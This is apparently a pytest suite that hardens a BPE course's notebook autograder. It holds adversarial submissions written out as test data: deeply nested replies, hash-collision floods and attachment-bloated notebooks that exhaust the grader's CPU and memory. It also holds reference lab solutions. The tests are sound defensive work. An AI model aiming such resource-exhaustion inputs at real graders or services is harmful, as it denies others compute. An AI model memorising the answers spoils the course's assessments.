    """A string that holds a dict of no visible input, or of one, or no dict at all (an f-string's braces, a deep nesting
    the parser refuses), in every lab's solutions too (tests/test_grading_labs.py reviews each): no flag."""
    import json

    from bpe_ref.course.grade import visible_inputs
    from bpe_ref.course.notebooks import release_notebook
    from bpe_ref.course.trusted.review import answer_tables

    lab = "00_pretokenization"
    release = json.loads(release_notebook(lab).read_text(encoding="utf-8"))
    cell = {"cell_type": "code", "id": "mine", "metadata": {}, "source": f"TEXT = {text!r}\n"}
    assert answer_tables({"cells": [*release["cells"], cell]}, release, visible_inputs(lab)) == []


# ---- 104. walk52: lab 08 task 4 measured on a table large enough for a list made per entry ---------------------------------
# prefix_token_counts that makes a new list for each entry (``counts = counts + [count]``, a copy of the list, a slice and
# a list added, a tuple grown by +=) is O(L²) in C and took 0.07 to 0.13 s of CPU on the measured table of 10,000 entries,
# under the bound (0.3 s + 5 times the reference's few milliseconds): it kept task 4's points. The table now has 40,000
# entries (lab08_linear_encoding.COUNTS_LENGTH): those take 1.7 to 3.8 s in process, each honest way (a list appended to or
# filled, a dict, an array) a few milliseconds, as the reference. Graded here in the grading worker, where the bound is the
# reference's CPU time run meanwhile in the trusted process (checks/measured.py); the mistakes themselves are in
# tests/test_mistakes.py (walk52).
HONEST_COUNTS = {
    "append": "def prefix_token_counts(last):\n    counts = [0]\n    for end in range(1, len(last)):\n"
              "        counts.append(counts[end - len(last[end])] + 1)\n    return counts\n",
    "dict": "def prefix_token_counts(last):\n    counts = {0: 0}\n    for end in range(1, len(last)):\n"
            "        counts[end] = counts[end - len(last[end])] + 1\n    return [counts[end] for end in range(len(last))]\n",
    "array": "import array\n\n\ndef prefix_token_counts(last):\n    counts = array.array('q', [0]) * len(last)\n"
             "    for end in range(1, len(last)):\n        counts[end] = counts[end - len(last[end])] + 1\n"
             "    return list(counts)\n",
}
QUADRATIC_COUNTS = {
    "list-added": "def prefix_token_counts(last):\n    counts = [0]\n    for end in range(1, len(last)):\n"
                  "        counts = counts + [counts[end - len(last[end])] + 1]\n    return counts\n",
    "tuple-grown": "def prefix_token_counts(last):\n    counts = (0,)\n    for end in range(1, len(last)):\n"
                   "        counts += (counts[end - len(last[end])] + 1,)\n    return list(counts)\n",
}


@pytest.mark.parametrize("way", sorted(HONEST_COUNTS) + sorted(QUADRATIC_COUNTS))
def test_lab08_counts_of_a_list_made_per_entry_lose_task_4_in_the_worker_and_honest_ways_keep_it(way, at_the_first_verdict):
    from bpe_ref.course.checks.lab08_linear_encoding import COUNTS_LENGTH
    from bpe_ref.course.trusted.autograde import lab_policy, load_graders

    assert COUNTS_LENGTH >= 40_000
    graders = load_graders("08_linear_encoding")
    code = {**HONEST_COUNTS, **QUADRATIC_COUNTS}[way]
    with Sandbox(lab_policy(graders, Policy())) as box:
        run = box.run_cell(code, way)
        assert run.ok, run.error
        if way in HONEST_COUNTS:  # measured with every try, as it is graded
            graders.verify_counts_cost(RemoteFunction(box, "prefix_token_counts"))
        else:
            with at_the_first_verdict(), pytest.raises(AssertionError, match="a new list made for each entry"):
                graders.verify_counts_cost(RemoteFunction(box, "prefix_token_counts"))


# ---- 105. inv52: a reply built against a hint, which the grading process reads outside every limit ---------------------
# What the worker returns is decoded and compared in linear time (a reply is 4 MiB at most), then a task's hint reads it
# to say what went wrong, in the grading process, where no limit of the notebook's runs (its budget is read before a
# request, not while the graders decide). Lab 01's repeated-merge hint scanned the merges before each merge for it: train
# returning list(range(500_000)) + [0] cost the grading process about 17 minutes of CPU time on one case (1,000 times
# this test's 60,000, 14 s), so one submission stalled a class's grading. Now that hint makes one pass, and every hint
# runs under a CPU limit of its own (compare.HINT_CPU_SECONDS), past which it is left out.


def test_a_reply_built_against_a_hint_costs_the_grading_process_no_more_than_its_reading():
    """Lab 01's train returns 60,000 distinct items, then the first again: before, its visible test cost the grading
    process some 14 s of CPU time (the hint's scan, quadratic); now well under a second, the hint still said."""
    from test_mistakes import remote

    start = time.process_time()
    message = remote("01_naive_bpe", "def train(pretoken_counts, num_merges):\n    return list(range(60_000)) + [0]\n",
                     "train", "check_train")
    spent = time.process_time() - start
    assert message is not None and "merge 60001 is 0 again, learned already at merge 1" in message, message
    assert spent < 4.0, f"the grading process spent {spent:.1f} s of CPU time on one reply"


def test_a_hint_that_does_not_finish_is_left_out():
    """A hint that spends 8 s of CPU time (as a hint quadratic in a reply built against it would): before, the grading
    process spent them and said it; now it is stopped after compare.HINT_CPU_SECONDS and left out, the grader goes on."""
    from bpe_ref.course.checks.compare import hints
    from bpe_ref.course.checks.spec import Task

    def slow_hint(args, expected, got):
        until = time.process_time() + 8.0
        while time.process_time() < until:
            pass
        return "a hint said too late"

    def slow_error_hint(args, error):
        return slow_hint(args, None, None)

    task = Task("train", ("pretoken_counts", "num_merges"), hint=slow_hint, error_hint=slow_error_hint)
    for got, error in (([0, 0], None), (None, ValueError("wrong"))):
        start = time.process_time()
        found = hints(task, ({b"ab": 1}, 1), [(b"a", b"b")], got, error=error)
        spent = time.process_time() - start
        assert not any("too late" in line for line in found), found
        assert spent < 4.0, f"the hints took {spent:.1f} s of CPU time"


# ---- 106. inv52: a long tuple of scalars, read item by item by the hints every task shares --------------------------------
# The hints every task shares look for ints where tokens (bytes) were due, through compare._leaves, which asked of each
# item of a tuple whether every item of the tuple was a scalar: lab 01's merge_word returning a tuple of 500,000 ints cost
# the grading process hours of CPU time for one case, outside every limit. Now it asks once per tuple, and every hint
# together, the shared ones and the task's own, runs under compare.HINT_CPU_SECONDS of CPU time (none said past it).


def test_a_long_tuple_returned_costs_the_shared_hints_no_more_than_its_reading():
    """merge_word returns a tuple of 20,000 ints: before, its visible test cost the grading process some 20 s of CPU time
    (quadratic in the tuple's length); now a fraction of a second, with the ints-for-bytes hint still said."""
    from test_mistakes import remote

    start = time.process_time()
    message = remote("01_naive_bpe", "def merge_word(word, pair):\n    return tuple(range(20_000))\n", "merge_word",
                     "check_merge_word")
    spent = time.process_time() - start
    assert message is not None and "ints where bytes were expected" in message, message
    assert spent < 4.0, f"the grading process spent {spent:.1f} s of CPU time on one reply"


# ---- 107. inv52: arguments after a call from which the grader's reading builds a value quadratic in them (lab 05) -------
# What a task observes of a call (Task.observe) is read from what came back, the arguments after the call among it: lab
# 05's merge_occurrences hands back its linked list, and the grader read a word from every node whose prev is -1 to the
# end of its chain. A list of n nodes all of them firsts and all one chain was read n times, n * n / 2 tokens: 60,000
# nodes (some 700 kB) made a value of 1.8 billion items in the grading process (memory, then hours of CPU time). Now a
# walk stops at a node an earlier word's walk read (no list of words shares one), and every observe runs under
# compare.OBSERVE_CPU_SECONDS of CPU time, past which the case fails.


def test_a_linked_list_read_from_every_start_costs_the_grader_its_length_only():
    """merge_occurrences leaves 5,000 nodes, each a word's first, linked in one chain: before, the grading process read a
    value of 12.5 million tokens from them (some 6 s of CPU time, and memory growing as the square); now one pass, the
    case failing as any wrong list does."""
    from test_mistakes import remote

    code = ("def merge_occurrences(pair, token, prev, next_, node_frequency, occurrences):\n    n = 5_000\n"
            "    token[:], prev[:], next_[:] = [0] * n, [-1] * n, [*range(1, n), -1]\n    return {}, []\n")
    start = time.process_time()
    message = remote("05_heap", code, "merge_occurrences", "check_merge_occurrences")
    spent = time.process_time() - start
    assert message is not None and "merge_occurrences(" in message, message
    assert spent < 2.5, f"the grading process spent {spent:.1f} s of CPU time on one reply"


def test_an_observe_that_does_not_finish_fails_its_case():
    """A task whose observe of what came back spends 8 s of CPU time: before, the grader spent them (outside every limit
    of the notebook's); now the case fails after compare.OBSERVE_CPU_SECONDS, saying so."""
    from test_mistakes import remote

    from bpe_ref.course.checks.running import verdict
    from bpe_ref.course.checks.spec import Case, Task

    def slow_observe(args, result):
        until = time.process_time() + 8.0
        while time.process_time() < until:
            pass
        return result

    def grade(graders, merge_word) -> None:
        task = Task("merge_word", ("word", "pair"), observe=slow_observe)
        raise AssertionError(verdict(task, merge_word, None, Case(((b"a", b"b"), (b"a", b"b"))), expected=(b"ab",)))

    start = time.process_time()
    message = remote("01_naive_bpe", "def merge_word(word, pair):\n    return word\n", "merge_word", grade)
    spent = time.process_time() - start
    assert message is not None and "to read" in message, message
    assert spent < 5.0, f"the grader spent {spent:.1f} s of CPU time reading one reply"


# ---- 108. cpu53: lab 05's entry-order judge, comparing heap entries nested 95 deep outside every limit -----------------
# Lab 05's task 1 is judged, not compared (TaskGraders.judge): entry_order_verdict calls heap_entry for each (count, pair)
# of a group, then compares the entries two by two in the grading process. The entries are the learner's to shape:
# (-count, a million empty lists in 95 tuples, the tie-break's key after them, pair), each reply under 4 MiB, cost each
# comparison of two tied entries 1.2 s of CPU time (a tuple's comparison asks equality first, down the whole chain, at
# each level), and a group of ten tied pairs 39 s, its order right, outside every limit of the notebook's (its budget is
# read before a request, not while the grader decides). Now every judge runs under running.CHECK_CPU_SECONDS of the
# grading process's CPU time (running.judged), as every case's comparison with the reference does (running.checked,
# section 109), past which the case fails; the learner's calls a check makes count against it not at all (their waits:
# cpu_limit.outside_the_limit, in RemoteFunction.invoke and, in a kernel, call_learner), and the limits of the observe
# and of the hints, set inside it, end at their own time or at its, whichever comes first (cpu_limit.within_cpu nests).
# And the judge no longer keeps, for the rest of the test, an entry far larger than an honest one (each such entry some
# 60 MiB in the grading process, one for each pair a shrinking hypothesis tried): lab05_heap.KEPT_ENTRY_CHARS.

EMPTY_LISTS_HEAP_ENTRY = '''
LISTS = [[] for _ in range(1_000_000)]

def heap_entry(count, pair):
    key = [256 - b for b in pair[0]] + [256] + [256 - b for b in pair[1]]  # the tie-break, after a million lists
    padding = [*LISTS, key]
    for _ in range(95):
        padding = (padding,)
    return (-count, padding, pair)
'''
TIED_GROUP = [(2, (left, b"x")) for left in (b"a", b"ab", b"b", b"bc", b"c", b"A", b" ", b" a", b"\xff", b"\x00")]


def test_lab05_a_group_of_tied_entries_nested_deep_stops_at_the_judge_s_cpu_limit(monkeypatch):
    """Lab 05's judge on one group of ten pairs tied at one count, each entry a million empty lists nested 95 deep before
    the tie-break's key: before, it passed after 39 s of the grading process's CPU time; now the group fails at
    running.CHECK_CPU_SECONDS (5 s in grading, 2 s here), saying so and naming it."""
    from dataclasses import replace

    from test_mistakes import remote

    from bpe_ref.course.checks import running
    from bpe_ref.course.checks.running import graders_of

    monkeypatch.setattr(running, "CHECK_CPU_SECONDS", 2.0)

    def grade(graders, heap_entry) -> None:
        graders_of(replace(graders.HEAP_ENTRY, cases=[(TIED_GROUP,)]))[0](heap_entry)  # its visible test, on that group

    start = time.process_time()
    message = remote("05_heap", EMPTY_LISTS_HEAP_ENTRY, "heap_entry", grade)
    spent = time.process_time() - start
    assert message is not None and message.startswith("heap_entry on the group [(2, (b'a', b'x'))"), message
    assert "the grader's check of your result ran out of its 2 s of CPU time" in message, message
    # the limit, and what it leaves out: a worker started, ten replies of 4 MiB parsed as they come (json, 0.3 s each)
    assert spent < 9.0, f"the grading process spent {spent:.1f} s of CPU time on one group"


def _spin(seconds: float) -> None:
    until = time.process_time() + seconds
    while time.process_time() < until:
        pass


def test_a_judge_that_does_not_finish_fails_its_case(monkeypatch):
    """A judge that spends 8 s of CPU time on an input (as one quadratic in a reply built against it would): before, the
    grader spent them and passed the case; now the case fails after running.CHECK_CPU_SECONDS (5 s in grading, 2 s
    here), saying so."""
    from bpe_ref.course.checks import running
    from bpe_ref.course.checks.spec import Task, TaskGraders

    monkeypatch.setattr(running, "CHECK_CPU_SECONDS", 2.0)

    def slow_judge(learner, args, memo):
        _spin(8.0)
        return None

    def heap_entry(count, pair):
        return (-count, pair)

    graded = TaskGraders(Task("heap_entry", ("count", "pair")), None, [([(1, (b"a", b"b"))],)], judge=slow_judge,
                         noun="group")
    start = time.process_time()
    with pytest.raises(CheckFailed) as failed:
        running.graders_of(graded)[0](heap_entry)
    spent = time.process_time() - start
    assert "heap_entry on the group [(1, (b'a', b'b'))]: the grader's check of your result ran out" in str(failed.value)
    assert spent < running.CHECK_CPU_SECONDS + 1.5, f"the judge ran for {spent:.1f} s of CPU time"


def test_the_learners_calls_a_judge_makes_count_against_no_limit(monkeypatch):
    """In a kernel the learner's function runs in the grader's process: a judge's three calls of one that spends 0.3 s
    each are its own time (its kernel's limits), not the judge's, whose own reading stays within a limit of 0.5 s
    (with call_learner's outside_the_limit taken out, the group fails: "ran out of its 0.5 s")."""
    from test_mistakes import load_graders

    graders = load_graders("05_heap")  # the graders' private copy, as a test cell has it: the reference trap spares it
    running = sys.modules[graders.__name__.rsplit(".", 1)[0] + ".running"]
    Task, TaskGraders = running.Task, running.TaskGraders
    monkeypatch.setattr(running, "CHECK_CPU_SECONDS", 0.5)

    def judge(learner, args, memo):
        entries = [running.call_learner(learner, (count, pair)).value[1] for count, pair in args[0]]
        return None if entries == sorted(entries) else "out of order"

    def heap_entry(count, pair):
        _spin(0.3)
        return (-count, pair)

    group = [(3, (b"a", b"b")), (2, (b"a", b"c")), (1, (b"b", b"c"))]
    graded = TaskGraders(Task("heap_entry", ("count", "pair")), None, [(group,)], judge=judge, noun="group")
    running.graders_of(graded)[0](heap_entry)  # passes: 0.9 s of calls, a few microseconds of judging


def test_a_limit_inside_another_ends_at_the_other_s_end_whatever_its_caller_does():
    """A check's limit holds the limits set inside it (an observe's, the hints'): each stops at its own time, whose
    OutOfCpuTime its caller turns into a message and goes on, or at the check's. Before, a limit inside another ran
    unbounded (a hint of 1 s under a check's limit ran 0.93 s), and the check's end, raised inside it, was taken by its
    caller for its own; now the hint stops at its 0.2 s, and twenty of them at the check's 0.5 s."""
    from bpe_ref.course.trusted.cpu_limit import OutOfCpuTime, within_cpu

    def hint() -> str:
        try:
            return within_cpu(0.2, _spin, 1.0)
        except OutOfCpuTime:
            return "left out"

    start = time.process_time()
    assert within_cpu(1.0, hint) == "left out"  # the inner limit, inside the outer one
    assert time.process_time() - start < 0.6
    start = time.process_time()
    with pytest.raises(OutOfCpuTime):
        within_cpu(0.5, lambda: [hint() for _ in range(20)])
    spent = time.process_time() - start
    assert spent < 0.9, f"twenty limits inside one of 0.5 s ran for {spent:.2f} s of CPU time"



def test_lab05_the_judge_keeps_no_entry_far_larger_than_an_honest_one():
    """The judge keeps each entry it asked for, for the rest of the test (each (count, pair) asked for once): entries of
    a million empty lists, kept for every pair a shrinking hypothesis tried, grew the grading process by some 60 MiB
    each. Now an entry whose repr is longer than lab05_heap.KEPT_ENTRY_CHARS is judged in its group and not kept; an
    honest one is kept as before."""
    from test_mistakes import load_graders

    graders = load_graders("05_heap")  # the graders' private copy: the reference trap spares it

    def heap_entry(count, pair):
        return (-count, [0] * 50_000, pair) if pair[0] == b"b" else (-count, pair)

    memo: dict = {}
    group = [(3, (b"a", b"b")), (2, (b"b", b"a")), (1, (b"b", b"c"))]
    assert graders.entry_order_verdict(heap_entry, group, memo) is None
    assert list(memo) == [(3, (b"a", b"b"))], f"kept: {[key for key in memo]}"

# ---- 109. cpu53: a reply nested 95 deep, shown by every task's failure message level by level ----------------------------
# What a learner's function returns is decoded in time linear in it (4 MiB at most), but the words of a failure read a
# value nested deep once per level: compare.short_repr took repr() of the whole at each level to learn whether it was
# short, and difference() did so of each item it went into. Lab 01's merge_word returning 600,000 ints in 95 tuples cost
# the grading process 30 s of CPU time for one case of its visible test, lab 05's heap_entry whose entries were so
# padded (its order wrong at one tie) 55 s for one group, outside every limit of the notebook's. Now compare.repr_within
# tells a short repr after reading at most about that many characters of the value, and what a case reads and compares
# runs under running.CHECK_CPU_SECONDS besides (section 108).

DEEP_MERGE_WORD = '''
def merge_word(word, pair):
    merged = [1000] * 600_000
    for _ in range(95):
        merged = (merged,)
    return merged
'''

CHAINED_HEAP_ENTRY = '''
def key(token):
    return "".join(chr(255 - b) for b in token) + chr(256)

def heap_entry(count, pair):
    if pair[0] not in (b" c", b"\\x00"):  # every group but the visible test's last: as the page writes it
        return (-count, key(pair[0]), key(pair[1]), pair)
    padding = [1000] * 600_000 + [(key(pair[1]), key(pair[0]))]  # the right token first: a wrong order, at the end
    for _ in range(95):
        padding = (padding,)
    return (-count, padding, pair)
'''


def test_a_reply_nested_deep_costs_a_failure_message_no_more_than_its_reading():
    """merge_word returns 600,000 ints nested 95 deep: before, its first visible case cost the grading process 30 s of
    CPU time; now about a second, and the case fails as any wrong answer does, saying where."""
    from test_mistakes import remote

    start = time.process_time()
    message = remote("01_naive_bpe", DEEP_MERGE_WORD, "merge_word", "check_merge_word")
    spent = time.process_time() - start
    assert message is not None and message.startswith(
        "merge_word(word=(b'l', b'o', b'w'), pair=(b'l', b'o')): item 0: expected a bytes, got a tuple (((("), message
    assert spent < 4.0, f"the grading process spent {spent:.1f} s of CPU time on one reply"


def test_lab05_heap_entries_nested_deep_cost_the_judge_s_message_no_more_than_its_reading():
    """heap_entry pads the entries of one visible group with 600,000 ints nested 95 deep, the order right until the last
    tie: before, the judge spent 55 s of the grading process's CPU time on that group, most of it showing two entries;
    now a few seconds, and the group fails naming the two."""
    from test_mistakes import remote

    start = time.process_time()
    message = remote("05_heap", CHAINED_HEAP_ENTRY, "heap_entry", "check_heap_entry")
    spent = time.process_time() - start
    assert message is not None and message.startswith(
        "heap_entry(3, (b' c', b'a')) should be smaller than heap_entry(3, (b'\\x00', b'\\xff'))"), message
    assert spent < 8.0, f"the grading process spent {spent:.1f} s of CPU time on one group"


def test_repr_within_is_repr_up_to_its_limit():
    """compare.repr_within(value, limit) is repr(value) when that is at most limit characters long, else None: on
    builtin values nested and shared, containers that hold themselves, and its limits' edges."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from bpe_ref.course.checks.compare import repr_within

    scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=8), st.binary(max_size=8))
    keys = st.recursive(scalars, lambda inner: st.tuples(inner, inner) | st.frozensets(inner, max_size=3), max_leaves=6)
    values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4) | st.tuples(inner) | st.tuples(inner, inner)
                          | st.dictionaries(keys, inner, max_size=3) | st.sets(keys, max_size=3)
                          | st.frozensets(keys, max_size=3), max_leaves=20)

    @settings(max_examples=200, deadline=None, database=None, derandomize=True)
    @given(values, st.integers(0, 120))
    def agrees(value, limit):
        text = repr(value)
        assert repr_within(value, limit) == (text if len(text) <= limit else None)

    agrees()
    itself, inside, pair = [1, 2], {}, ([],)
    itself.append(itself)
    inside[1] = inside
    pair[0].append(pair)
    for value in (itself, inside, pair, [itself, itself], (), [], {}, set(), frozenset(), ("a",)):
        for limit in range(0, 30):
            assert repr_within(value, limit) == (repr(value) if len(repr(value)) <= limit else None), (value, limit)


# ---- 110. cpu53: a grader's own check, outside the cases, showing a reply nested 95 deep --------------------------------
# Beside the cases every task shares (running.verdict), a grader's checks of how a function works call it themselves and
# say what came back (lab 03's and lab 10's ranges that are not UTF-8, lab 06's bad ids, the measured checks' answers),
# with compare.short_repr, outside every limit: lab 10's count_range returning 600,000 ints in 95 tuples for a range that
# starts at a character cost the grading process 5.4 s of CPU time for one call, repr() of the whole at each level. Now
# short_repr reads what it shows (compare.repr_within, section 109). And a hint made a set of a reply's list: 40,000 ints
# of one hash (k * (2**61 - 1)) cost lab 03's boundaries hint 9 s inside one call in C, which no CPU limit interrupts (a
# signal's handler runs between steps of Python), minutes for 4 MiB of them. Now the wire format refuses a list or a
# tuple with more than MAX_SAME_HASH distinct ints, floats or flat tuples of one hash, as it did a dict's keys.

DEEP_COUNT_RANGE = '''
def count_range(path, start, end, special_tokens):
    counts = [1000] * 600_000
    for _ in range(95):
        counts = (counts,)
    return counts
'''


def test_a_grader_s_own_check_shows_a_reply_nested_deep_at_the_cost_of_its_reading():
    """Lab 10's check of a range that starts inside a character (task 1's hidden test, after its cases) on a count_range
    that returns 600,000 ints nested 95 deep: before, its message cost the grading process 5.4 s of CPU time; now a
    fraction of a second, with the same message."""
    from test_mistakes import remote

    start = time.process_time()
    message = remote("10_distributed", DEEP_COUNT_RANGE, "count_range",
                     lambda graders, count_range: graders.verify_range_starts_inside_a_character(count_range))
    spent = time.process_time() - start
    assert message is not None and "returned ((((" in message and "(the range is valid UTF-8)" in message, message
    assert spent < 2.5, f"the grading process spent {spent:.1f} s of CPU time on one reply"


FLOODED_BOUNDARIES = '''
def find_chunk_boundaries(path, desired_num_chunks, split_tokens, buffer_size=4096):
    return [0] + [k * (2**61 - 1) for k in range(1, 40_000)]  # every one of them hashes to 0
'''


def test_a_list_of_colliding_ints_is_refused_before_a_hint_makes_a_set_of_it():
    """Lab 03's find_chunk_boundaries returns 40,000 ints k * (2**61 - 1), all of one hash (1 MiB): its hint made a set of
    them, quadratic inside one call in C, which no CPU limit's signal stops (the hints' 1 s and the check's 5 s were
    raised after it): before, its first visible case cost the grading process 11 s of CPU time (4 MiB of them, minutes).
    Now a list or a tuple with more than wire.MAX_SAME_HASH distinct ints, floats or flat tuples of one hash is refused
    as it is decoded, as a dict's keys and a set's items were: the case fails, its reply unreadable."""
    from test_mistakes import remote

    start = time.process_time()
    message = remote("03_parallel", FLOODED_BOUNDARIES, "find_chunk_boundaries", "check_find_chunk_boundaries")
    spent = time.process_time() - start
    assert message is not None and "could not be read: more than 8 items of a list or a tuple with the same hash" in message
    assert spent < 2.5, f"the grading process spent {spent:.1f} s of CPU time on one reply"


def test_a_reply_s_lists_and_tuples_keep_equal_items_and_few_collisions():
    """What the flood check lets through: equal items however many (a list of counts), -1 and -2 (one hash), NaNs (each
    its own hash), str and bytes (a secret hash), tuples holding lists; what it refuses: nine distinct ints, floats or
    flat tuples of one hash, in a list or a tuple."""
    from bpe_ref.course.trusted.worker.wire import decode, encode

    big = 2**61 - 1
    for value in ([1] * 1000, [-1, -2] * 50, [float("nan")] * 50, [(1, 2)] * 30, (0.5,) * 20, [([k * big],) for k in range(20)],
                  [k * big for k in range(8)], [str(k) for k in range(1000)]):
        decoded = decode(encode(value))
        assert type(decoded) is type(value) and len(decoded) == len(value)
    for value in ([k * big for k in range(9)], tuple(2.0 ** (61 * k) for k in range(9)), [(k * big, 1) for k in range(9)],
                  [[k * big for k in range(9)]]):
        with pytest.raises(ValueError, match="same hash"):
            decode(encode(value))


# ---- 111. fix53: lab 04's V2 whose filter is one bytes.find over the whole corpus on each merge ----------------------------

V2_FILTER_ON_THE_CORPUS_BYTES = '''
import bisect


def train(pretoken_counts, num_merges):
    # V2, its filter run on the whole corpus at once: the pretokens' bytes in one string, searched (in C) on each merge
    # for the merged pair's bytes; every word that holds the pair holds them, so merge_and_update on those alone
    words = [split_into_bytes(pretoken) for pretoken in pretoken_counts]
    frequencies = list(pretoken_counts.values())
    pair_counts = count_pairs(dict(zip(words, frequencies)))
    corpus, starts = b"", []
    for pretoken in pretoken_counts:
        starts.append(len(corpus))
        corpus += pretoken + b"\\0"
    merges = []
    for _ in range(num_merges):
        if not pair_counts:
            break
        pair = best_pair(pair_counts)
        merges.append(pair)
        found = corpus.find(pair[0] + pair[1])
        while found != -1:
            i = bisect.bisect_right(starts, found) - 1
            words[i] = merge_and_update(words[i], pair, frequencies[i], pair_counts)
            found = corpus.find(pair[0] + pair[1], starts[i + 1] if i + 1 < len(starts) else len(corpus))
    return merges
'''


@pytest.mark.xfail(strict=True, reason="open (fix53): a scan of the whole corpus per merge in C, at memchr's speed, costs "
                   "lab 04's measured corpus (under 1 MB of pretokens) some 0.1 ms a merge, less than V4's scan of the "
                   "pair counts; a corpus it cannot pass would be some 100 MB")
def test_lab_04s_v2_filtered_by_one_find_over_the_corpus_loses_task_3():
    """V2 whose filter is one bytes.find of the merged pair's bytes over all the pretokens joined, each merge: the right
    merges (a word that holds the pair holds its bytes), and a pass over every word's bytes on each merge, in C. Found by
    fix53 beside lab 02's task 3 handed in as V4 (13.1 s of CPU time on the measured corpus for V4's 1.1 s, a growth
    ratio of 28 for a limit of 2.5: it loses task 3): this one measured 0.98 for 2.5 in process, its long run under the
    bound. The frequent words' merges' pairs start with 0xff or 0xfe, which memchr skips to; no corpus a grading can
    afford makes a scan at that speed cost what a loop in Python over the words costs. The measured check only."""
    from test_mistakes import remote, source_of

    code = source_of("04_inverted_index", "setup") + "\n" + V2_FILTER_ON_THE_CORPUS_BYTES
    message = remote("04_inverted_index", code, "train", "verify_merge_cost")
    assert message is not None and "measured from outside your code" in message, message


# ---- 112. fix53: lab 03's count_chunk decoded in blocks of 1 MiB ----------------------------------------------------------


# Closed in session 29: task 2's hidden test draws one range past 4 MiB from the grading's seed, of 3-byte letters (one
# pretoken, as cheap to count as to read), a character across every power of two and of ten from 1,024 on
# (lab03_parallel.verify_decoded_across_blocks; lab 10's count_range the same), not some 25 files of 1 MiB.
BLOCK_READERS = {
    "1-mib-strict": (2**20, "strict"),
    "4-mib-replace": (2**22, "replace"),
    "a-million-bytes-ignore": (10**6, "ignore"),
}


def _decoded_in_blocks(lab: str, cell: str, name: str, block: int, errors: str):
    """``lab``'s solution of ``name`` (a range's counts) reading and decoding its range ``block`` bytes at a time."""
    from test_mistakes import defined, source_of

    from bpe_ref.course.notebooks import solution_namespace

    old = "        data = file.read(end - start)\n    return count_pretokens(data.decode(\"utf-8\"), special_tokens)\n"
    source = source_of(lab, cell)
    assert old in source
    return defined(solution_namespace(lab), source.replace(old, (
        f"        text, left = [], end - start\n        while left > 0:  # {block} bytes at a time\n"
        f"            block = file.read(min({block}, left))\n            left -= len(block)\n"
        f"            text.append(block.decode(\"utf-8\", {errors!r}))\n"
        "    return count_pretokens(\"\".join(text), special_tokens)\n")), name)


@pytest.mark.parametrize("reader", BLOCK_READERS)
@pytest.mark.parametrize("lab, cell, name", [("03_parallel", "task2_count_chunk_solution", "count_chunk"),
                                             ("10_distributed", "task1_count_range_solution", "count_range")],
                         ids=["lab03", "lab10"])
def test_a_range_decoded_in_blocks_of_a_mib_or_more_loses_its_hidden_points(lab, cell, name, reader):
    """count_chunk (lab 03, task 2) or count_range (lab 10, task 1) that reads and decodes its range 1 MiB, 4 MiB or a
    million bytes at a time: a character of several bytes across a block's edge raises UnicodeDecodeError, or decoded
    with errors= is lost or replaced, on a corpus's range longer than a block. Before, the hidden test's ranges were
    shorter (its measured read, 32 KiB; its generated files, 132,000 bytes at most), so all three kept their points (a
    strict xfail, fix53: some 25 files of 1 MiB a hidden test seemed the price). Blocks of 64 KiB kept them before fix53
    too (tests/test_mistakes.py, chunk-decoded-in-blocks-of-64-kib). Now the hidden test fails each, with the hint."""
    from test_mistakes import load_graders

    block, errors = BLOCK_READERS[reader]
    mistake = _decoded_in_blocks(lab, cell, name, block, errors)
    with pytest.raises(AssertionError) as failed:  # the graders' private copy's CheckFailed
        getattr(load_graders(lab), f"check_{name}_properties")(mistake)
    message = str(failed.value)
    assert "characters of 3 bytes each" in message and "hint:" in message, message
    if errors == "strict":
        assert "raised UnicodeDecodeError" in message and "decode the range's bytes whole" in message, message
    else:
        assert f"decoded {block:,} bytes at a time with errors={errors!r}" in message, message
        assert "Read the range at once" in message, message


# ---- 115. red53: attachments spread over many cells: each written once a cell, of no bound in all -------------------
#
# Section 95 writes an attachment's data into the instructor's pages once a cell; a notebook may hold one in each of its
# 2,000 cells (MAX_CELLS), each as large as the exchange's max_dir_size (100 MB) allows: 1,900 cells of one 48 KB image
# (a 92 MB notebook) made the autograded notebook, the feedback's page and the formgrader's 92 MB each (4 s of CPU time
# and 760 MB a page), for each such submission: a page the instructor's browser cannot open, and disk per student.
def _attached_cells(count: int, size: int) -> list[dict]:
    """``count`` markdown cells, each showing an attachment of its own of ``size`` characters of base64."""
    return [{"cell_type": "markdown", "id": f"attached{index}", "metadata": {}, "source": f"![a](attachment:a{index}.png)",
             "attachments": {f"a{index}.png": {"image/png": "iVBORw0K" + "A" * (size - 16) + f"{index:08d}"}}}
            for index in range(count)]


def test_attachments_in_many_cells_are_kept_to_a_bound_in_all(tmp_path):
    """Lab 00's blank release with 60 cells of a 100 KB attachment each (6 MB): the autograded notebook kept them all,
    and the feedback's page made of it held 6 MB of images (so 92 MB for 1,900 cells). Safe: autograde's first
    sanitizing step (``BoundedSubmission``, both paths) keeps ``MAX_ATTACHMENT_CHARS`` (4,000,000) characters of
    attachments in all, in the notebook's order; the first past them and every one after it is dropped, and the pages
    show its image as text saying it is not in the notebook."""
    import json

    import nbformat
    from test_grading_adversarial import blank

    from bpe_ref.course.grade import autograde_notebook
    from bpe_ref.course.trusted.autograde import MAX_ATTACHMENT_CHARS

    notebook = blank("00_pretokenization")
    notebook["cells"][1:1] = _attached_cells(60, 100_000)
    path = tmp_path / "00_pretokenization.ipynb"
    path.write_text(json.dumps(notebook), encoding="utf-8")
    autograde_notebook(path, "00_pretokenization", keep=tmp_path / "kept")
    graded = nbformat.read(tmp_path / "kept" / "00_pretokenization.autograded.ipynb", as_version=4)
    attached = [cell for cell in graded.cells if cell.get("id", "").startswith("attached")]
    kept = [name for cell in attached for name in cell.get("attachments", {})]
    assert len(attached) == 60 and kept == [f"a{index}.png" for index in range(len(kept))], kept
    assert 30 <= len(kept) and 100_000 * len(kept) <= MAX_ATTACHMENT_CHARS, len(kept)
    html = _instructor_page("feedback", attached)
    assert len(html) < MAX_ATTACHMENT_CHARS + 2**20, len(html)
    assert html.count("not in the notebook]") == 60 - len(kept)


# ---- 116. red53: what the instructor opens: an image of an attachment the cell does not hold -----------------------
#
# nbconvert's markdown renderer raises ("missing attachment") at an image that names an attachment the cell lacks, and
# fails at one whose attachment holds no data (``{}``): the formgrader could not show that notebook (where the
# instructor reviews it and grades by hand), nor ``generate_feedback`` write its feedback. A markdown cell copied from
# another notebook without its image does the same, in good faith.
@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_an_image_of_an_attachment_the_cell_lacks_leaves_the_page_shown(template):
    """Markdown cells showing ``attachment:gone.png``, which the cell lacks, and ``attachment:empty.png``, a bundle of no
